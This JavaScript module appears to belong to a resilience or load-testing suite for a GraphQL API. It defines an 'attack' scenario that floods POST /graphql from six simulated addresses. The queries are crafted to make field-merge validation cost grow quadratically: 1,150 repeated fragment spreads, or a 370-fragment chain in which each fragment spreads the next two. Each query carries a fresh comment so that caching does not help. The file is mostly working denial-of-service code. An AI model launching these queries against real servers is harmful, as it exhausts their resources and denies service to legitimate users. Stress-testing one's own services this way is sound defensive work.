// (11) Field-merge checks: validation compares fields that share a response name pair by pair
// when each spreads a fragment, so a 16 KB document of 1,150 copies of `source { id ...a }` is
// work that grows with the square of its length while its price grows with its length. Every
// document starts with a new comment, so no cache of parsed or validated documents answers it;
// half of them are instead a chain of fragments each spreading the next two, which compare pair
// by pair too.
import { Tally } from '../lib/tally.mjs';
import { attackers, flood } from '../lib/clients.mjs';
import { destroyAgents } from '../lib/http.mjs';

const ADDRESSES = 6;

export const meta = {
  key: 'merge-check',
  title: 'Field-merge checks',
  what: `${ADDRESSES} addresses × 1 in flight, POST /graphql of 16 KB: 1,150 copies of a field spreading a fragment, or 370 fragments each spreading the next two, a new comment each time`,
};

const COPIES = '{project(slug:"helium"){latestPrice{' + 'source{id...a}'.repeat(1150) + '}}}'
  + 'fragment a on Source{id...b}fragment b on Source{id}';

// Fragment names a, b, …, z, aa, ab, …: short, so that 370 of them fit in 16 KB.
const name = k => (k < 26 ? '' : name(Math.floor(k / 26) - 1)) + String.fromCharCode(97 + (k % 26));
const FRAGMENTS = 370;
const CHAIN = '{...a}' + Array.from({ length: FRAGMENTS }, (_, k) =>
  `fragment ${name(k)} on Query{__typename ${[k + 1, k + 2].filter(j => j < FRAGMENTS).map(j => `...${name(j)}`).join('')}}`).join('');

export async function attack({ base, deadline }, signal) {
  const tally = new Tally();
  const next = (address, n) => ({
    method: 'POST', path: '/graphql',
    body: { query: `#${address} ${n}\n${n % 2 === 0 ? COPIES : CHAIN}` },
  });
  await flood({ base, addresses: attackers(ADDRESSES), perAddress: 1, next, tally, deadline, signal, timeoutMs: 60_000 });
  destroyAgents();
  return tally.summary();
}
